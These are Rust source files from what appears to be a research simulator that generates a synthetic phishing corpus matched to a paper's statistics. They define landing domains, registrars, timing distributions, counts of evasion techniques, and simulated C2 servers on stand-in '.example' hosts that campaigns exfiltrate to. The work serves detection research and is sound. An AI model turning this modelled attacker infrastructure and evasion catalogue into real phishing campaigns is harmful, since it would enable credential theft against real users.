fn neutral_name(rng: &mut StdRng, idx: usize, tld: &str) -> String {
    let a = NEUTRAL_WORDS[rng.gen_range(0..NEUTRAL_WORDS.len())];
    let b = NEUTRAL_WORDS[rng.gen_range(0..NEUTRAL_WORDS.len())];
    format!("{a}-{b}-{idx}{tld}")
}

/// Abused legitimate platforms (the paper lists vercel.app,
/// cloudflare-ipfs.com, workers.dev, r2.dev, oraclecloud.com,
/// cloudfront.net).
const ABUSED_PLATFORMS: &[&str] = &[
    "vercel.app.example",
    "cloudflare-ipfs.example",
    "workers.dev.example",
    "r2.dev.example",
    "oraclecloud.example",
    "cloudfront.example",
];

/// The `.ru` registrars the paper enumerates.
const RU_REGISTRARS: &[&str] = &[
    "REGRU-RU",
    "R01-RU",
    "RU-CENTER-RU",
    "REGTIME-RU",
    "OPENPROV-RU",
];

fn registrar_for(tld: &str, rng: &mut StdRng) -> String {
    if tld == ".ru" {
        RU_REGISTRARS[rng.gen_range(0..RU_REGISTRARS.len())].to_string()
    } else {
        ["NameBay", "GlobalReg", "HostPort", "DomainDesk"][rng.gen_range(0..4)].to_string()
    }
}

/// Draw `timedeltaA` (registration → delivery) in days: a right-skewed
/// body on [0, 90) covering ~80.5% of domains, plus an exponential tail
/// beyond 90 days. Calibrated so the median lands near 24 days (575 h) and
/// the tail share matches 102/522.
fn draw_tdelta_a_days(rng: &mut StdRng, tail_share: f64) -> f64 {
    if rng.gen_bool(tail_share) {
        // tail: 90 days + Exp(mean 90 d), capped — calibrated so the full
        // distribution's excess kurtosis lands near the paper's 8.4
        let u: f64 = rng.gen_range(1e-6..1.0);
        (90.0 - 90.0 * u.ln()).min(500.0)
    } else {
        // body: 90 · u^2.774 has its 62nd percentile at ≈ 24 days, which is
        // the overall median once the 19.5% tail sits above it.
        let u: f64 = rng.gen();
        90.0 * u.powf(2.774)
    }
}

/// Draw `timedeltaB` (certificate → delivery) in days: tighter — attackers
/// obtain certificates closer to launch. Median ≈ 7.7 days; ~1% beyond 90.
fn draw_tdelta_b_days(rng: &mut StdRng, tail_share: f64) -> f64 {
    if rng.gen_bool(tail_share) {
        let u: f64 = rng.gen_range(1e-6..1.0);
        (90.0 - 120.0 * u.ln()).min(1200.0)
    } else {
        let u: f64 = rng.gen();
        90.0 * u.powf(3.5)
    }
}

/// Generate the landing-domain set. `mean_delivery` anchors the timedeltas
/// (the paper measures against each domain's average message delivery
/// time; generation uses the window centre and the per-message schedule
/// refines it).
pub fn generate_domains(
    spec: &CorpusSpec,
    rng: &mut StdRng,
    mean_delivery: SimTime,
) -> Vec<LandingDomain> {
    let total = spec.scaled(spec.landing_domains);
    let deceptive_target = spec.scaled(spec.lexical_deceptive_domains);
    let compromised_target = spec.scaled(spec.compromised_domains);
    let abused_target = spec.scaled(spec.abused_service_domains);
    // The >90-day class includes the compromised/abused old domains; the
    // fresh-domain tail covers only the remainder.
    let tail_a = (spec.tdelta_a_over_90d
        .saturating_sub(spec.compromised_domains + spec.abused_service_domains))
        as f64
        / (spec.landing_domains - spec.compromised_domains - spec.abused_service_domains) as f64;
    let tail_b = spec.tdelta_b_over_90d as f64 / spec.landing_domains as f64;

    // Expand the TLD histogram into a scaled list of TLD slots.
    let mut tld_slots: Vec<&str> = Vec::with_capacity(total);
    for (tld, count) in &spec.tld_distribution {
        let scaled = (*count as f64 * total as f64 / spec.landing_domains as f64).round() as usize;
        for _ in 0..scaled {
            tld_slots.push(tld.as_str());
        }
    }
    while tld_slots.len() < total {
        tld_slots.push(".com");
    }
    tld_slots.truncate(total);

    let mut out = Vec::with_capacity(total);
    for (i, tld) in tld_slots.iter().enumerate() {
        let origin = if i < abused_target {
            DomainOrigin::AbusedService
        } else if i < abused_target + compromised_target {
            DomainOrigin::Compromised
        } else {
            DomainOrigin::Fresh
        };
        let deceptive = origin == DomainOrigin::Fresh
            && out.iter().filter(|d: &&LandingDomain| d.deceptive_name).count() < deceptive_target;
        let name = match origin {
            DomainOrigin::AbusedService => format!(
                "campaign-{i}.{}",
                ABUSED_PLATFORMS[i % ABUSED_PLATFORMS.len()]
            ),
            DomainOrigin::Compromised => format!("smallbiz-{i}{tld}"),
            DomainOrigin::Fresh => {
                if deceptive {
                    deceptive_name(rng, i, tld)
                } else {
                    neutral_name(rng, i, tld)
                }
            }
        };

        let (registered_at, cert_issued_at) = match origin {
            DomainOrigin::Fresh => {
                let a_days = draw_tdelta_a_days(rng, tail_a);
                // The certificate comes after registration and close to
                // launch: tdB = min(tdA, 90·u^2.1) puts the overall tdB
                // median at ≈ 7.9 days (185 h) given tdA's distribution,
                // with no fresh-domain certificates older than 90 days —
                // the >90-day tdB outliers are the compromised sites.
                let _ = tail_b;
                let u: f64 = rng.gen();
                let b_days = (90.0 * u.powf(2.1)).min(a_days);
                (
                    mean_delivery - SimDuration::seconds((a_days * 86_400.0) as i64),
                    mean_delivery - SimDuration::seconds((b_days * 86_400.0) as i64),
                )
            }
            DomainOrigin::Compromised => {
                // Legitimate domains registered years ago; most renewed
                // their certificates recently, a few (the timedeltaB
                // outliers) hold long-lived certificates.
                let age_days = rng.gen_range(200.0..600.0);
                let cert_days = if rng.gen_bool(0.2) {
                    rng.gen_range(100.0..300.0)
                } else {
                    draw_tdelta_b_days(rng, 0.0)
                };
                (
                    mean_delivery - SimDuration::seconds((age_days * 86_400.0) as i64),
                    mean_delivery - SimDuration::seconds((cert_days * 86_400.0) as i64),
                )
            }
            DomainOrigin::AbusedService => {
                // The *subdomain* inherits the platform's registration, but
                // the measurable timeline is the campaign deployment on the
                // platform: a few months to a couple of years back.
                let age_days = rng.gen_range(250.0..700.0);
                let cert_days = rng.gen_range(1.0..45.0);
                (
                    mean_delivery - SimDuration::seconds((age_days * 86_400.0) as i64),
                    mean_delivery - SimDuration::seconds((cert_days * 86_400.0) as i64),
                )
            }
        };

        let registrar = registrar_for(tld, rng);
        out.push(LandingDomain {
            name,
            origin,
            registered_at,
            cert_issued_at,
            registrar,
            deceptive_name: deceptive,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_netsim::DomainName;
    use cb_sim::SeedFork;
    use cb_stats::Describe;

    fn generate_full() -> Vec<LandingDomain> {
        let spec = CorpusSpec::paper();
        let mut rng = SeedFork::new(7).rng("domains");
        generate_domains(&spec, &mut rng, SimTime::from_ymd(2024, 6, 1))
    }

    #[test]
    fn count_and_tld_mix() {
        let domains = generate_full();
        assert_eq!(domains.len(), 522);
        let com = domains
            .iter()
            .filter(|d| DomainName::new(&d.name).tld() == ".com")
            .count();
        // .com target 262 (the compromised/abused classes replace a few)
        assert!((230..=290).contains(&com), "{com} .com domains");
        let ru = domains
            .iter()
            .filter(|d| DomainName::new(&d.name).tld() == ".ru")
            .count();
        assert!((38..=58).contains(&ru), "{ru} .ru domains");
    }

    #[test]
    fn names_are_unique() {
        let domains = generate_full();
        let set: std::collections::HashSet<&str> =
            domains.iter().map(|d| d.name.as_str()).collect();
        assert_eq!(set.len(), domains.len());
    }

    #[test]
    fn no_punycode_anywhere() {
        for d in generate_full() {
            assert!(!DomainName::new(&d.name).has_punycode(), "{}", d.name);
        }
    }

    #[test]
    fn deceptive_share_is_about_82() {
        let domains = generate_full();
        let deceptive = domains.iter().filter(|d| d.deceptive_name).count();
        assert_eq!(deceptive, 82);
    }

    #[test]
    fn origin_classes_match_spec() {
        let domains = generate_full();
        let compromised = domains
            .iter()
            .filter(|d| d.origin == DomainOrigin::Compromised)
            .count();
        let abused = domains
            .iter()
            .filter(|d| d.origin == DomainOrigin::AbusedService)
            .count();
        assert_eq!(compromised, 20);
        assert_eq!(abused, 9);
    }

    #[test]
    fn tdelta_a_distribution_shape() {
        let domains = generate_full();
        let anchor = SimTime::from_ymd(2024, 6, 1);
        let days: Vec<f64> = domains
            .iter()
            .map(|d| (anchor - d.registered_at).as_days_f64())
            .collect();
        let desc = Describe::of(&days);
        // median near 24 days (575 h)
        assert!((15.0..=35.0).contains(&desc.median), "median {} d", desc.median);
        // fat right tail
        assert!(desc.skewness > 1.5, "skewness {}", desc.skewness);
        assert!(desc.kurtosis_excess > 3.0, "kurtosis {}", desc.kurtosis_excess);
        // over-90-day share near 102/522 — compromised+abused domains are
        // all old, adding ~29 to the ~0.195·493 fresh tail
        let over90 = days.iter().filter(|&&d| d > 90.0).count();
        assert!((85..=165).contains(&over90), "{over90} over 90d");
    }

    #[test]
    fn tdelta_b_distribution_shape() {
        let domains = generate_full();
        let anchor = SimTime::from_ymd(2024, 6, 1);
        let days: Vec<f64> = domains
            .iter()
            .map(|d| (anchor - d.cert_issued_at).as_days_f64())
            .collect();
        let desc = Describe::of(&days);
        // median near 7.7 days (185 h)
        assert!((4.0..=14.0).contains(&desc.median), "median {} d", desc.median);
        // far fewer certificates than registrations are old
        let over90 = days.iter().filter(|&&d| d > 90.0).count();
        assert!(over90 <= 20, "{over90} certs over 90d");
    }

    #[test]
    fn certificates_never_precede_registration() {
        for d in generate_full() {
            assert!(
                d.cert_issued_at >= d.registered_at,
                "{}: cert {} before registration {}",
                d.name,
                d.cert_issued_at,
                d.registered_at
            );
        }
    }

    #[test]
    fn ru_domains_use_ru_registrars() {
        for d in generate_full() {
            if DomainName::new(&d.name).tld() == ".ru" && d.origin == DomainOrigin::Fresh {
                assert!(d.registrar.ends_with("-RU"), "{} via {}", d.name, d.registrar);
            }
        }
    }

    #[test]
    fn generation_is_deterministic() {
        let spec = CorpusSpec::paper();
        let anchor = SimTime::from_ymd(2024, 6, 1);
        let a = generate_domains(&spec, &mut SeedFork::new(9).rng("d"), anchor);
        let b = generate_domains(&spec, &mut SeedFork::new(9).rng("d"), anchor);
        assert_eq!(a, b);
    }

    #[test]
    fn scaled_generation_shrinks() {
        let spec = CorpusSpec::paper().with_scale(0.1);
        let mut rng = SeedFork::new(1).rng("d");
        let domains = generate_domains(&spec, &mut rng, SimTime::from_ymd(2024, 6, 1));
        assert_eq!(domains.len(), 52);
    }
}
