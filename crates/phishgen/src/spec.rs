//! The corpus specification: every number the paper reports, as data.

use serde::{Deserialize, Serialize};

/// All generator parameters, defaulting to the paper's published values.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CorpusSpec {
    /// Linear scale factor on all counts (1.0 = the paper's 5,181
    /// messages). Use small scales for tests.
    pub scale: f64,

    /// Messages confirmed malicious per month, January–October 2024.
    /// Sums to 5,181 with mean 518.1 (Figure 2); the series continues the
    /// downward trend from late 2023.
    pub monthly_2024: [usize; 10],
    /// The March–December 2023 comparison series (mean 885.2, sd 454.7;
    /// final three months 1,959 / 1,533 / 1,249). Paired with 2024 by
    /// position for the footnote-1 t-test.
    pub monthly_2023: [usize; 10],

    /// Class mix of the 5,181 (§V): counts are derived from the active /
    /// no-resource / interaction / download counts; error-pages absorb the
    /// remainder (the paper's published 823 overshoots its own total by 5 —
    /// see EXPERIMENTS.md).
    pub no_resource: usize,
    /// Messages leading to pages that demand interaction (4.5%).
    pub interaction_required: usize,
    /// Messages delivering file downloads (ZIP→HTA chains).
    pub downloads: usize,
    /// Messages leading to an active phishing page (29.9%).
    pub active_phish: usize,

    /// Spear-phishing messages among the active set (73.3% = 1,137).
    pub spear: usize,
    /// Unique non-targeted lookalike pages (130, distributed per §V-B).
    pub nontargeted_unique_pages: usize,
    /// Non-targeted messages carrying an HTML attachment (29).
    pub html_attachment_messages: usize,
    /// HTML attachments that redirect locally without changing the URL (19).
    pub html_local_redirects: usize,

    /// Distinct landing domains (522).
    pub landing_domains: usize,
    /// Table II: `(tld, domain_count)` over the 522.
    pub tld_distribution: Vec<(String, usize)>,
    /// Domains using deceptive naming (82 of 522; zero punycode).
    pub lexical_deceptive_domains: usize,
    /// Maximum reported messages on one domain (58).
    pub max_messages_per_domain: usize,

    /// Median `timedeltaA` target in hours (575 ≈ 24 days).
    pub median_tdelta_a_hours: f64,
    /// Median `timedeltaB` target in hours (185 ≈ 8 days).
    pub median_tdelta_b_hours: f64,
    /// Domains with `timedeltaA` > 90 days (102).
    pub tdelta_a_over_90d: usize,
    /// Domains with `timedeltaB` > 90 days (5, of which 4 compromised).
    pub tdelta_b_over_90d: usize,
    /// Compromised legitimate domains among the outliers (≥20).
    pub compromised_domains: usize,
    /// Abused legitimate hosting services (9: vercel.app-style platforms).
    pub abused_service_domains: usize,

    /// Credential-harvesting messages (1,267 = 1,137 spear + 130
    /// non-targeted uniques).
    pub turnstile_messages: usize,
    /// reCAPTCHA v3 messages (314, typically layered behind Turnstile).
    pub recaptcha_messages: usize,
    /// Console-hijacking messages (≥295).
    pub console_hijack_messages: usize,
    /// Debugger-timer messages (≥10).
    pub debugger_timer_messages: usize,
    /// Right-click/devtools-blocking messages (39).
    pub devtools_block_messages: usize,
    /// UA+timezone+language gate messages (≥15).
    pub env_gate_messages: usize,
    /// OTP-gate messages (47).
    pub otp_gate_messages: usize,
    /// Math-challenge messages (11).
    pub math_challenge_messages: usize,
    /// BotD/FingerprintJS library messages (5, July 9–18 cluster).
    pub fingerprint_lib_messages: usize,
    /// hue-rotate messages (103 distinct messages / 167 pages).
    pub hue_rotate_messages: usize,
    /// httpbin-style IP echo usage (145).
    pub httpbin_messages: usize,
    /// ipapi-style enrichment usage (83).
    pub ipapi_messages: usize,
    /// Victim-DB check script A (151 messages / 38 domains).
    pub victim_check_a_messages: usize,
    /// Victim-DB check script B (143 messages / 57 domains).
    pub victim_check_b_messages: usize,
    /// Hotlinked brand resources (29.8% of the 1,137 lookalikes ⇒ 339).
    pub hotlink_messages: usize,

    /// Noise-padded messages (≥270).
    pub noise_padded_messages: usize,
    /// Messages with QR codes embedding the landing URL.
    pub qr_messages: usize,
    /// Of those, faulty QR codes exploiting the scanner bug (35).
    pub faulty_qr_messages: usize,
    /// Messages whose landing URL hides in an image (OCR path).
    pub image_url_messages: usize,
    /// Messages with PDF attachments carrying the URL.
    pub pdf_messages: usize,
    /// Messages with nested EML attachments carrying the URL.
    pub eml_messages: usize,

    /// Fraction of URLs that transiently fault on their first attempts
    /// (0.0 = the perfectly reliable network the seed assumed). When
    /// positive, corpus generation installs a deterministic
    /// `cb_netsim::FaultPlan` on the world after build.
    #[serde(default)]
    pub transient_fault_rate: f64,
    /// Most consecutive attempts a flaky URL fails before recovering.
    /// Keeping this at or below the crawl supervisor's retry ceiling
    /// guarantees supervised scans converge to fault-free results.
    #[serde(default = "default_fault_max_consecutive")]
    pub fault_max_consecutive: u32,
}

fn default_fault_max_consecutive() -> u32 {
    2
}

impl CorpusSpec {
    /// The published parameters.
    pub fn paper() -> CorpusSpec {
        CorpusSpec {
            scale: 1.0,
            // Sums to 5,181; mean 518.1; continues the 2023 downward trend.
            monthly_2024: [1085, 880, 700, 565, 480, 420, 330, 290, 230, 201],
            // Mar..Dec 2023; the last three are the published 1,959 / 1,533
            // / 1,249; earlier months chosen for mean ≈ 885.
            monthly_2023: [455, 500, 545, 585, 625, 665, 715, 1959, 1533, 1249],
            no_resource: 2572,
            interaction_required: 235,
            downloads: 5,
            active_phish: 1551,
            spear: 1137,
            nontargeted_unique_pages: 130,
            html_attachment_messages: 29,
            html_local_redirects: 19,
            landing_domains: 522,
            tld_distribution: [
                (".com", 262),
                (".ru", 48),
                (".dev", 45),
                (".buzz", 27),
                (".tech", 9),
                (".xyz", 9),
                (".org", 8),
                (".click", 7),
                (".br", 7),
                // "Other": spread across a few plausible TLDs totalling 100
                (".net", 40),
                (".io", 30),
                (".site", 30),
            ]
            .iter()
            .map(|(t, n)| (t.to_string(), *n))
            .collect(),
            lexical_deceptive_domains: 82,
            max_messages_per_domain: 58,
            median_tdelta_a_hours: 575.0,
            median_tdelta_b_hours: 185.0,
            tdelta_a_over_90d: 102,
            tdelta_b_over_90d: 5,
            compromised_domains: 20,
            abused_service_domains: 9,
            turnstile_messages: 943,
            recaptcha_messages: 314,
            console_hijack_messages: 295,
            debugger_timer_messages: 10,
            devtools_block_messages: 39,
            env_gate_messages: 15,
            otp_gate_messages: 47,
            math_challenge_messages: 11,
            fingerprint_lib_messages: 5,
            hue_rotate_messages: 103,
            httpbin_messages: 145,
            ipapi_messages: 83,
            victim_check_a_messages: 151,
            victim_check_b_messages: 143,
            hotlink_messages: 339,
            noise_padded_messages: 270,
            qr_messages: 120,
            faulty_qr_messages: 35,
            image_url_messages: 60,
            pdf_messages: 80,
            eml_messages: 40,
            transient_fault_rate: 0.0,
            fault_max_consecutive: default_fault_max_consecutive(),
        }
    }

    /// Apply a linear scale to all counts.
    pub fn with_scale(mut self, scale: f64) -> CorpusSpec {
        assert!(scale > 0.0 && scale <= 1.0, "scale in (0, 1]");
        self.scale = scale;
        self
    }

    /// Enable transient-fault injection at `rate` (fraction of URLs that
    /// are flaky, in `[0, 1]`).
    pub fn with_fault_rate(mut self, rate: f64) -> CorpusSpec {
        assert!((0.0..=1.0).contains(&rate), "fault rate in [0, 1]");
        self.transient_fault_rate = rate;
        self
    }

    /// A count under the current scale (rounded, minimum 1 when the
    /// unscaled count is nonzero).
    pub fn scaled(&self, n: usize) -> usize {
        if n == 0 {
            return 0;
        }
        ((n as f64 * self.scale).round() as usize).max(1)
    }

    /// Total malicious messages across the ten months (pre-scaling).
    pub fn total_messages(&self) -> usize {
        self.monthly_2024.iter().sum()
    }

    /// The error-page class count: the remainder after the published
    /// classes (818 — the paper's own 823 overshoots its total by 5).
    pub fn error_pages(&self) -> usize {
        self.total_messages()
            - self.no_resource
            - self.interaction_required
            - self.downloads
            - self.active_phish
    }

    /// Credential-harvesting messages (spear + non-targeted uniques).
    pub fn credential_harvesting(&self) -> usize {
        self.spear + self.nontargeted_unique_pages
    }
}

impl Default for CorpusSpec {
    fn default() -> Self {
        CorpusSpec::paper()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn monthly_2024_matches_figure_2() {
        let s = CorpusSpec::paper();
        assert_eq!(s.total_messages(), 5181);
        let mean = s.total_messages() as f64 / 10.0;
        assert!((mean - 518.1).abs() < 1e-9);
        // downward trend
        assert!(s.monthly_2024.windows(2).all(|w| w[0] > w[1]));
        // standard deviation close to the published 278.4
        let sd = {
            let m = mean;
            let var: f64 = s
                .monthly_2024
                .iter()
                .map(|&x| (x as f64 - m).powi(2))
                .sum::<f64>()
                / 10.0;
            var.sqrt()
        };
        assert!((sd - 278.4).abs() < 20.0, "sd {sd}");
    }

    #[test]
    fn monthly_2023_matches_text() {
        let s = CorpusSpec::paper();
        assert_eq!(&s.monthly_2023[7..], &[1959, 1533, 1249]);
        let mean = s.monthly_2023.iter().sum::<usize>() as f64 / 10.0;
        assert!((mean - 885.2).abs() < 15.0, "mean {mean}");
    }

    #[test]
    fn class_mix_percentages() {
        let s = CorpusSpec::paper();
        let total = s.total_messages() as f64;
        assert!((s.no_resource as f64 / total - 0.496).abs() < 0.002);
        assert!((s.active_phish as f64 / total - 0.299).abs() < 0.002);
        assert!((s.interaction_required as f64 / total - 0.045).abs() < 0.002);
        assert_eq!(s.error_pages(), 818);
        assert!((s.error_pages() as f64 / total - 0.159).abs() < 0.003);
    }

    #[test]
    fn tld_distribution_sums_to_landing_domains() {
        let s = CorpusSpec::paper();
        let total: usize = s.tld_distribution.iter().map(|(_, n)| n).sum();
        assert_eq!(total, s.landing_domains);
        // .com share is 50.2%
        let com = s.tld_distribution.iter().find(|(t, _)| t == ".com").unwrap().1;
        assert!((com as f64 / s.landing_domains as f64 - 0.502).abs() < 0.002);
    }

    #[test]
    fn credential_harvesting_is_1267() {
        let s = CorpusSpec::paper();
        assert_eq!(s.credential_harvesting(), 1267);
        // Turnstile rate 74.4%
        assert!(
            (s.turnstile_messages as f64 / s.credential_harvesting() as f64 - 0.744).abs() < 0.001
        );
        assert!(
            (s.recaptcha_messages as f64 / s.credential_harvesting() as f64 - 0.248).abs() < 0.001
        );
    }

    #[test]
    fn spear_share_is_73_percent() {
        let s = CorpusSpec::paper();
        assert!((s.spear as f64 / s.active_phish as f64 - 0.733).abs() < 0.001);
    }

    #[test]
    fn hotlink_share_is_29_8_percent_of_spear() {
        let s = CorpusSpec::paper();
        assert!((s.hotlink_messages as f64 / s.spear as f64 - 0.298).abs() < 0.001);
    }

    #[test]
    fn scaling_floors_at_one() {
        let s = CorpusSpec::paper().with_scale(0.01);
        assert_eq!(s.scaled(5), 1);
        assert_eq!(s.scaled(0), 0);
        assert_eq!(s.scaled(1000), 10);
    }

    #[test]
    #[should_panic(expected = "scale")]
    fn zero_scale_rejected() {
        CorpusSpec::paper().with_scale(0.0);
    }

    #[test]
    fn fault_knobs_default_off() {
        let s = CorpusSpec::paper();
        assert_eq!(s.transient_fault_rate, 0.0);
        assert_eq!(s.fault_max_consecutive, 2);
        assert_eq!(s.with_fault_rate(0.2).transient_fault_rate, 0.2);
    }

    #[test]
    #[should_panic(expected = "fault rate")]
    fn out_of_range_fault_rate_rejected() {
        CorpusSpec::paper().with_fault_rate(1.5);
    }
}
