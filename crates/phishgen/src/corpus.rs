//! Corpus orchestration: build the world, deploy the attacker
//! infrastructure, and synthesize every reported message with ground truth.

use crate::campaigns::{generate_campaigns, Campaign, VictimCheckScript};
use crate::domains::generate_domains;
use crate::messages::{build_message, Carrier};
use crate::spec::CorpusSpec;
use crate::timeline;
use cb_netsim::{HttpRequest, HttpResponse, Internet, NetContext};
use cb_phishkit::brand::LegitSite;
use cb_phishkit::{Brand, C2Server, PhishingSite};
use cb_sim::{SimDuration, SimTime};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// The §V class of a message (ground truth; the pipeline must re-derive it).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum MessageClass {
    /// No embedded web resource (49.6%).
    NoResource,
    /// Leads to an error page / dead infrastructure (15.9%).
    ErrorPage,
    /// Leads to a page demanding interaction (4.5%).
    InteractionRequired,
    /// Leads to a file download (0.1%).
    Download,
    /// Leads to an active phishing page (29.9%).
    ActivePhish,
}

/// Ground truth attached to each generated message.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GroundTruth {
    /// The §V class.
    pub class: MessageClass,
    /// Index into [`Corpus::campaigns`] for active-phish messages.
    pub campaign: Option<usize>,
    /// URL carrier shape.
    pub carrier: Carrier,
    /// Spear (company lookalike) vs non-targeted.
    pub spear: bool,
    /// Noise-padded body.
    pub noise_padded: bool,
    /// The embedded URL (when any).
    pub url: Option<String>,
}

/// One user-reported message.
#[derive(Debug, Clone)]
pub struct ReportedMessage {
    /// Stable index within the corpus.
    pub id: usize,
    /// Wire-format MIME.
    pub raw: String,
    /// Delivery instant.
    pub delivered_at: SimTime,
    /// The recipient who reported it.
    pub victim: String,
    /// Ground truth for validation.
    pub truth: GroundTruth,
}

/// The generated corpus plus the world it lives in.
pub struct Corpus {
    /// The generating specification.
    pub spec: CorpusSpec,
    /// The simulated internet with everything deployed.
    pub world: Internet,
    /// All campaigns (sites are live in `world`).
    pub campaigns: Vec<Campaign>,
    /// The deployed site handles, parallel to `campaigns`.
    pub sites: Vec<PhishingSite>,
    /// The five companies' legitimate sites (their referral logs implement
    /// the §V-A early-detection defence).
    pub legit_sites: Vec<(Brand, cb_phishkit::brand::LegitSite)>,
    /// All reported messages, delivery-ordered.
    pub messages: Vec<ReportedMessage>,
    /// Shared C2 of victim-check script A.
    pub c2_alpha: C2Server,
    /// Shared C2 of victim-check script B.
    pub c2_beta: C2Server,
    /// The C2 used by every other campaign.
    pub c2_shared: C2Server,
}

impl std::fmt::Debug for Corpus {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Corpus")
            .field("messages", &self.messages.len())
            .field("campaigns", &self.campaigns.len())
            .finish()
    }
}

/// Largest-remainder apportionment of `total` across the monthly weights.
fn apportion(total: usize, weights: &[usize; 10]) -> [usize; 10] {
    let wsum: usize = weights.iter().sum();
    let mut out = [0usize; 10];
    let mut fractions: Vec<(usize, f64)> = Vec::new();
    let mut assigned = 0;
    for (i, &w) in weights.iter().enumerate() {
        let exact = total as f64 * w as f64 / wsum as f64;
        out[i] = exact.floor() as usize;
        assigned += out[i];
        fractions.push((i, exact - exact.floor()));
    }
    fractions.sort_by(|a, b| b.1.partial_cmp(&a.1).expect("finite"));
    for (i, _) in fractions.into_iter().take(total - assigned) {
        out[i] += 1;
    }
    out
}

impl Corpus {
    /// Generate the corpus at `spec` with deterministic `seed`.
    ///
    /// This is exactly [`Corpus::stream`] collected into a `Vec` — the
    /// eager and lazy generators share one synthesis path, so their
    /// messages are bit-identical by construction.
    pub fn generate(spec: &CorpusSpec, seed: u64) -> Corpus {
        let (mut corpus, stream) = Corpus::stream(spec, seed);
        corpus.messages = stream.collect();
        corpus
    }

    /// Build the world eagerly but yield the reported messages lazily.
    ///
    /// The returned [`Corpus`] has everything deployed (domains, sites,
    /// C2s, DNS history — that part is O(campaigns), not O(messages)) and
    /// an **empty** `messages` vector; the companion [`MessageStream`]
    /// synthesizes each [`ReportedMessage`] on demand with the same RNG
    /// discipline as the eager generator, so `stream(..).1.collect()` is
    /// bit-identical to the `messages` of [`Corpus::generate`]. Peak
    /// memory for the message payloads is whatever the consumer retains —
    /// a streaming scan pipeline can hold a bounded window instead of the
    /// whole corpus.
    ///
    /// Victim-check C2 registrations happen as each message is yielded
    /// (exactly like the eager path); a message's own victim is always
    /// registered before the message is returned, so scanning message *i*
    /// before message *j* is generated observes the same world state as a
    /// scan after full generation.
    pub fn stream(spec: &CorpusSpec, seed: u64) -> (Corpus, MessageStream) {
        let fork = cb_sim::SeedFork::new(seed);
        let world = Internet::new(timeline::world_epoch());

        // --- the legitimate web -----------------------------------------
        let mut legit_sites = Vec::new();
        for brand in Brand::companies()
            .into_iter()
            .chain(Brand::commodity_services().iter().map(|(b, _)| *b))
        {
            world.register_domain_at(
                brand.legit_domain(),
                "CORP-REG",
                timeline::world_epoch(),
            );
            world.issue_certificate_at(
                brand.legit_domain(),
                timeline::study_start() - SimDuration::days(30),
            );
            let site = LegitSite::new(brand);
            world.host(brand.legit_domain(), site.clone());
            legit_sites.push((brand, site));
        }
        for svc in [
            cb_phishkit::infrastructure::HTTPBIN_HOST,
            cb_phishkit::infrastructure::IPAPI_HOST,
            "freeimages.example",
            "gyazo.example",
            cb_phishkit::infrastructure::TURNSTILE_HOST,
            cb_phishkit::infrastructure::RECAPTCHA_HOST,
        ] {
            world.register_domain_at(svc, "CORP-REG", timeline::world_epoch());
            world.host(svc, |req: &HttpRequest, ctx: &NetContext<'_>| {
                let body = if ctx.domain.as_str() == cb_phishkit::infrastructure::HTTPBIN_HOST {
                    format!("{}", req.client_ip)
                } else if ctx.domain.as_str() == cb_phishkit::infrastructure::IPAPI_HOST {
                    format!("FR;AS{};{}", 2000, ctx.client_class)
                } else {
                    "binary-image-data".to_string()
                };
                HttpResponse::ok("text/plain", body.into_bytes())
            });
        }

        // --- attacker shared infrastructure ------------------------------
        let c2_alpha = C2Server::new();
        let c2_beta = C2Server::new();
        let c2_shared = C2Server::new();
        for (domain, c2) in [
            ("c2-alpha.example", &c2_alpha),
            ("c2-beta.example", &c2_beta),
            ("c2-shared.example", &c2_shared),
        ] {
            world.register_domain_at(
                domain,
                "REGRU-RU",
                timeline::study_start() - SimDuration::days(120),
            );
            world.host(domain, c2.clone());
        }

        // --- campaigns ----------------------------------------------------
        let global_anchor = SimTime::from_ymd(2024, 6, 1);
        let domains = generate_domains(spec, &mut fork.rng("domains"), global_anchor);
        let mut campaigns = generate_campaigns(spec, &mut fork.rng("campaigns"), domains);
        // Non-victim-check campaigns exfiltrate to the shared C2.
        for c in campaigns.iter_mut() {
            if c.victim_check.is_none() {
                c.c2_base = "https://c2-shared.example".to_string();
            }
        }

        // --- class / month layout -----------------------------------------
        // The error / interaction / download classes are apportioned across
        // months; campaigns are placed against each month's remaining
        // capacity; NoResource absorbs whatever is left, so each month's
        // total matches Figure 2 exactly.
        let monthly = timeline::scaled_monthly(spec);
        let error_count = spec.scaled(spec.error_pages());
        let interaction_count = spec.scaled(spec.interaction_required);
        let download_count = spec.scaled(spec.downloads);
        let per_month_error = apportion(error_count, &monthly);
        let per_month_interaction = apportion(interaction_count, &monthly);
        let per_month_download = apportion(download_count, &monthly);

        let mut rng = fork.rng("layout");
        let mut campaign_order: Vec<usize> = (0..campaigns.len()).collect();
        campaign_order.shuffle(&mut rng);
        let mut campaign_month = vec![0usize; campaigns.len()];
        let mut active_in_month = [0usize; 10];
        {
            // Active capacity per month before NoResource absorbs the rest:
            // aim for the active class's proportional share.
            let active_total: usize = campaigns.iter().map(|c| c.message_count).sum();
            let capacity = apportion(active_total, &monthly);
            let mut month = 0usize;
            for &ci in &campaign_order {
                while month < 9 && active_in_month[month] >= capacity[month] {
                    month += 1;
                }
                campaign_month[ci] = month;
                active_in_month[month] += campaigns[ci].message_count;
            }
        }
        let mut per_month_noresource = [0usize; 10];
        for m in 0..10 {
            let others = per_month_error[m]
                + per_month_interaction[m]
                + per_month_download[m]
                + active_in_month[m];
            per_month_noresource[m] = monthly[m].saturating_sub(others);
        }

        // --- deploy campaign infrastructure --------------------------------
        let mut sites = Vec::with_capacity(campaigns.len());
        let mut msg_rng = fork.rng("messages");
        for (ci, c) in campaigns.iter_mut().enumerate() {
            let (y, mo) = timeline::months_2024()[campaign_month[ci]];
            let campaign_anchor = SimTime::from_ymd(y, mo, 15);
            c.launch = campaign_anchor;
            let shift = campaign_anchor - global_anchor;
            c.domain.registered_at = c.domain.registered_at + shift;
            c.domain.cert_issued_at = c.domain.cert_issued_at + shift;

            world.register_domain_at(&c.domain.name, &c.domain.registrar, c.domain.registered_at);
            if c.domain.origin == crate::domains::DomainOrigin::Compromised {
                world.mark_compromised(&c.domain.name);
            }
